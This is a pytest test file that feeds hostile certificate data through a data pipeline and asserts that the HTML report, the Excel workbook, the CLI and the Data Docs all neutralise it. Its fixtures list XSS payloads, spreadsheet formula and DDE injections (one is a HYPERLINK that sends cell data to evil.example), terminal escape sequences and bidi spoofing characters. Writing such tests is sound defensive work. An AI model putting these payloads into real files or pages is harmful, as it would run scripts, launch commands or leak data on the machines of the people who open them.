"""Every place that shows source text neutralises it (docs/reliability.md).

A real night on hostile text: certificates files whose every free-text column holds markup,
formulas, escape sequences, a CR LF and a bidi override, rows that break a rule with such values
(so the quarantine shows them), and files whose very names are hostile (one of them empty, so it is
refused with its name in the reason), through land → load → raw gate → dbt build → mart gate →
publish → report. Then: the report's HTML holds no element or attribute from the sources; the
XLSX opens, and no cell is a formula or starts with a formula character unescaped; the real
`greencert quarantine` command prints no raw ESC, BEL, CR, backspace or bidi character, and no line
break inside a value; GX's Data Docs render a `<script>` cell as text. The helpers
(greencert.terminal_text, greencert.sheet_text) are checked on every hostile string too.
"""

from __future__ import annotations

import dataclasses
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import psycopg
import pytest
from openpyxl import load_workbook
from psycopg import sql

from greencert import settings, subprocesses
from greencert.extract.files import land_new_files
from greencert.load.copy_batch import BatchRejected, load_batch
from greencert.quality import gx_run
from greencert.quality.raw_gate import run_raw_gate
from greencert.report import html, workbook
from greencert.report.write import write_report
from greencert.sheet_text import FORMULA_START
from greencert.sheet_text import cell as sheet_cell
from greencert.terminal_text import is_unsafe, visible

from ..integration.helpers import cert, write_csv
from ..integration.test_dbt_build import ROWS
from .faults import CERTS, D, audit_and_publish, build

DB = "greencert_source_text"

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "'><svg onload=alert(3)>",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1",
    "bell\x07 and \x1b[31mred\x1b[0m and a \x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "back\x08space and \x0bvt \x0cff \x1f us \x7f del \x9b csi",
    "line one\r\nline two\rover",
    "苏州\u202egnp.exe\u202c \u2066isolate\u2069 \u200fmark",
    "＝1+1 full-width",
]
# the free-text columns of a certificate (no check, no vocabulary): a row with hostile text in
# each passes every rule and reaches the marts
FREE_TEXT = [
    "认证类别",
    "认证项目",
    "认证依据",
    "组织名称",
    "组织地址",
    "认证机构名称",
    "认证机构批准号",
    "覆盖范围",
    "主认证证书号",
]
# (file name, rows): hostile names; the empty one is refused with its name in the reason
NAMES = {
    "<img src=x onerror=alert(9)>.csv": [cert("N1")],
    '=HYPERLINK("http:evil","x")+cmd|\' C calc\'!A0.csv': [],
    "\x1b[31mred\x1b]8;;http:evil\x07link\x1b]8;;\x07 \u202egpj.csv": [
        cert("N2", **{"证书状态": "\x1b[2J"}),
        cert("N2B"),
    ],
    "two\r\nlines\x08.csv": [cert("N3")],
}
BIDI = {chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F)}
RAW_TERMINAL = {"\x1b", "\x07", "\x08", "\r", "\x9b", "\x7f", *BIDI}


def _hostile_rows() -> list[dict[str, str]]:
    rows = [
        cert(f"H{i}", **dict.fromkeys(FREE_TEXT, text), **{"行政区划代码": "320583"}) for i, text in enumerate(HOSTILE)
    ]
    # and the same text where a rule reads it: quarantined, so the listing shows the values
    rows += [cert(f"Q{i}", **{"证书状态": text}) for i, text in enumerate(HOSTILE)]
    rows += [cert(f"R{i}", **{"行政区划代码": text, "颁证日期": text}) for i, text in enumerate(HOSTILE[:4])]
    return rows


@pytest.fixture(scope="module")
def night(fresh_database, tmp_path_factory):
    """A night on the hostile files: its urls, its report files and the batches' fates."""
    urls = fresh_database(DB)
    tmp = tmp_path_factory.mktemp("source_text")
    if not (settings.DBT_PROJECT_DIR / "target" / "manifest.json").exists():
        subprocesses.dbt_parse()
    drop = tmp / "drop"
    write_csv(drop / "certs.csv", ROWS + _hostile_rows())
    for name, rows in NAMES.items():
        if rows:
            write_csv(drop / name, rows)
        else:
            (drop / name).write_bytes(b"")
    fates = {}
    for batch in land_new_files(CERTS, urls["loader"], D, dropbox=drop, landing=tmp / "landing"):
        try:
            load_batch(CERTS, urls["loader"], batch)
        except BatchRejected as refused:
            fates[batch.source_file] = f"refused: {refused}"
            continue
        gate = run_raw_gate(CERTS, urls["loader"], batch.batch_id, run_id="source-text")
        fates[batch.source_file] = "accepted" if gate.success else gate.summary()
    audit_and_publish(urls, build(urls))
    files = write_report(urls["transformer"], D, root=tmp / "reports")
    return urls, files, fates


def test_every_file_went_its_way(night) -> None:
    _, _, fates = night
    assert fates == {
        "certs.csv": "accepted",
        **{name: "accepted" for name, rows in NAMES.items() if rows},
        **{name: fates[name] for name, rows in NAMES.items() if not rows},
    }
    (empty,) = [name for name, rows in NAMES.items() if not rows]
    assert fates[empty].startswith("refused: ") and "empty file" in fates[empty]


def test_the_hostile_text_reached_the_warehouse_as_sent(night) -> None:
    """Nothing is neutralised on the way in: raw keeps what the source sent, the marts read it."""
    urls, _, _ = night
    with psycopg.connect(urls["loader"]) as conn:
        names = {r[0] for r in conn.execute("select org_name from raw.certificates").fetchall()}
        files = {r[0] for r in conn.execute("select source_file from raw.landing_manifest").fetchall()}
    assert set(HOSTILE) <= names
    assert set(NAMES) | {"certs.csv"} == files


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data) -> None:
        self.text.append(data)


def test_the_report_page_holds_no_element_or_attribute_from_the_sources(night) -> None:
    _, files, _ = night
    page = files.html.read_text(encoding="utf-8")
    parsed = _Tags()
    parsed.feed(page)
    tags = {tag for tag, _ in parsed.tags}
    assert not tags & {"script", "img", "iframe", "object", "embed", "link", "form", "a", "base"}
    assert not [(tag, name) for tag, attrs in parsed.tags for name, _ in attrs if name.startswith("on")]
    assert not [v for _, attrs in parsed.tags for _, v in attrs if v and ("javascript:" in v or "alert(" in v)]
    text = "".join(parsed.text)
    for name in NAMES:  # each file name is on the page, as text, made visible
        assert visible(name) in text, name
    assert not {ch for ch in text if is_unsafe(ch) and ch not in "\n\t"}  # no control or bidi char from a source


def test_the_workbook_opens_and_no_cell_runs(night) -> None:
    _, files, _ = night
    book = load_workbook(files.xlsx)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(FORMULA_START)]
    files_col = [c.value for c in book["数据质量 Data quality"]["B"] if c.value]
    for name in NAMES:  # (XML reads a CR LF inside a cell as LF)
        assert sheet_cell(name).replace("\r\n", "\n") in files_col, name
    reasons = [c.value for c in book["数据质量 Data quality"]["F"] if c.value]
    assert any("empty file" in r and r.startswith("'=HYPERLINK") for r in reasons)


def test_the_quarantine_command_prints_no_escape_sequence_or_line_break_from_a_value(night) -> None:
    env = {**os.environ, "GREENCERT_DB": DB}
    out = subprocess.run(
        [
            sys.executable,
            "-m",
            "greencert.cli",
            "quarantine",
            "--date",
            D.isoformat(),
            "--feed",
            "certificates",
            "--limit",
            "1000",
        ],
        env=env,
        capture_output=True,
        check=True,
        timeout=300,
    ).stdout.decode("utf-8")
    assert not {ch for ch in out if ch in RAW_TERMINAL}, "a raw control or bidi character reached the terminal"
    assert not {ch for ch in out if is_unsafe(ch) and ch != "\n"}
    lines = out.splitlines()
    assert len(lines) == out.count("\n") + (not out.endswith("\n"))  # no line break but \n
    n = int(re.search(r"Quarantined rows: (\d+) rule breaks", out).group(1))
    at = lines.index(next(line for line in lines if line.startswith("Quarantined rows:")))
    breaks = lines[at + 1 :]
    assert len(breaks) == n and all(line.startswith("  certificates ") for line in breaks)  # one line each
    batch_lines = [line for line in lines[:at] if re.match(r"  \d{4}-\d\d-\d\d  certificates", line)]
    assert len(batch_lines) == len(NAMES) + 1
    for name in NAMES:
        assert visible(name) in out
    assert r"\x1b[2J" in out and r"\r\n" in out and r"\u202e" in out and r"\x07" in out


def test_gx_data_docs_render_a_script_cell_as_text(night) -> None:
    urls, _, _ = night
    values = ", ".join(f"({sql.Literal(v).as_string()})" for v in HOSTILE[:3])
    outcome = gx_run.validate(
        urls["loader"],
        "raw.source_text_probe",
        target="source_text_probe",
        run_id="source-text-docs",
        query=f"select * from (values {values}) as t (status)",
        data_docs=True,
        expectations=[
            {"type": "expect_column_values_to_be_in_set", "kwargs": {"column": "status", "value_set": ["有效"]}}
        ],
    )
    (check,) = outcome.checks
    assert not check.success and "<script>alert(1)</script>" in check.observed  # dq keeps what was read
    site = gx_run.data_docs_index().parent
    pages = sorted((site / "validations" / "raw" / "source_text_probe").rglob("*.html"))
    assert pages, "no Data Docs page for the probe"
    page = pages[-1].read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<script>alert(1)" not in page and "<img src=x" not in page and "<svg onload" not in page


def test_the_helpers_on_every_hostile_string() -> None:
    for text in HOSTILE + list(NAMES):
        shown = visible(text)
        assert not [ch for ch in shown if is_unsafe(ch)] and visible(shown) == shown
        held = sheet_cell(text)
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", held) and not held.startswith(FORMULA_START)
    assert visible("a\x1b[31mb\r\n\u202e") == r"a\x1b[31mb\r\n\u202e" and visible("苏州\u3000市") == "苏州\u3000市"
    assert sheet_cell("bell\x07") == r"bell\x07" and sheet_cell("=1+1") == "'=1+1" and sheet_cell(5) == 5
    assert sheet_cell("x" * 40000).endswith("…") and len(sheet_cell("x" * 40000)) == 32767


def test_no_export_crashes_on_any_text_a_source_can_send(tmp_path) -> None:
    """Every text field of the report's data holding every character a source can send (all of
    \\x01–\\x1f, DEL, C1, bidi, markup, formulas): the page renders, the workbook writes and opens."""
    from ..unit.test_report import data

    every = "".join(chr(c) for c in (*range(1, 0x20), 0x7F, 0x9B, 0x202E, 0x2066, 0xFFFE)) + " ".join(HOSTILE)
    base = data()
    evil = dataclasses.replace(
        base,
        targets=[dataclasses.replace(t, indicator_zh=every, metric_en=every + " $x^2$ $\\bad{") for t in base.targets],
        regions=[dataclasses.replace(r, name_zh=r.name_zh + every[:5], name_en=every) for r in base.regions],
        batches=[{**b, "source_file": every, "reason": every} for b in base.batches],
        quarantine_rules=[("certificates", every, 1)],
        mart_checks=[{**c, "observed": every} for c in base.mart_checks],
    )
    page = html.render(evil)
    parsed = _Tags()
    parsed.feed(page)
    assert not {tag for tag, _ in parsed.tags} & {"script", "img"}
    assert not [n for _, attrs in parsed.tags for n, _ in attrs if n.startswith("on")]
    book = load_workbook(workbook.write(evil, tmp_path / "evil.xlsx"))
    texts = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert texts and not [t for t in texts if t.startswith(FORMULA_START)]
    assert any(r"\x07" in t for t in texts)
    assert Path(tmp_path / "evil.xlsx").stat().st_size > 0
